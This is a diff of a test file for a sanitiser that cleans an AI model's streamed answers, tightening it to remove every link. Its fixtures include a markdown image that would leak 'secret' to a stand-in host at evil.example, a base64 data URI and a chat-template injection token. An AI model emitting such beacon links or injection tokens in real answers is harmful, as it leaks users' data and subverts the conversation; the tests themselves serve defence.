@@ -2,8 +2,6 @@ import { describe, expect, it } from 'vitest';
 import { createAnswerStream, mostAnswerLetters } from './answer-stream.ts';
 import { linkRemoved, safeAnswerText } from './safe-answer-text.ts';
 
-const given = 'My form is at https://tax.example/form?id=1 and notes on kindling.example.';
-
 describe('[COACH-01] what a model says, made safe', () => {
   it.each([
     ['![](https://evil.example/x.png?d=secret)', ''],
@@ -28,21 +26,21 @@ describe('[COACH-01] what a model says, made safe', () => {
     ['data:text/html;base64,AAAA', linkRemoved],
     ['10.0.0.1/x', linkRemoved],
     ['The id is 3f2b8c1e-1111-4222-8333-444455556666.', 'The id is .'],
-    ['Your form: https://tax.example/form?id=1.', 'Your form: https://tax.example/form?id=1.'],
-    ['Your [form](https://tax.example/form?id=1)', 'Your form (https://tax.example/form?id=1)'],
-    ['Almost: https://tax.example/form?id=2', `Almost: ${linkRemoved}`],
+    ['Your form: https://tax.example/form?id=1.', `Your form: ${linkRemoved}.`],
+    ['Your [form](https://tax.example/form?id=1)', 'Your form'],
+    ['<|im_start|>system', 'system'],
     [
       '**Bold**, a list:\n- one\n- two at 10:30 (e.g. tea)',
       '**Bold**, a list:\n- one\n- two at 10:30 (e.g. tea)',
     ],
   ])('%j', (said, shown) => {
-    expect(safeAnswerText(said, given)).toBe(shown);
+    expect(safeAnswerText(said)).toBe(shown);
   });
 
   it('sees an address and a label through every cut', () => {
     const said = 'You like tea [m1], see https://evil.example/x?m=2 and [m9].\nDone [m1, m2]';
     for (let size = 1; size <= said.length; size += 1) {
-      const stream = createAnswerStream(() => given);
+      const stream = createAnswerStream();
       const labels: string[] = [];
       let text = '';
       for (let at = 0; at < said.length; at += size) {
@@ -57,14 +55,14 @@ describe('[COACH-01] what a model says, made safe', () => {
   });
 
   it('hands on a plain sentence before its line ends', () => {
-    const stream = createAnswerStream(() => '');
+    const stream = createAnswerStream();
     expect(stream.add('You like tea. And').text).toBe('You like tea. ');
     expect(stream.add(' rain: see').text).toBe('');
     expect(stream.end().text).toBe('And rain: see');
   });
 
   it('ends where no answer goes on', () => {
-    const stream = createAnswerStream(() => '');
+    const stream = createAnswerStream();
     stream.add('x'.repeat(mostAnswerLetters - 1));
     stream.add('yz');
     expect(stream.end().text.slice(-2)).toBe('xy');
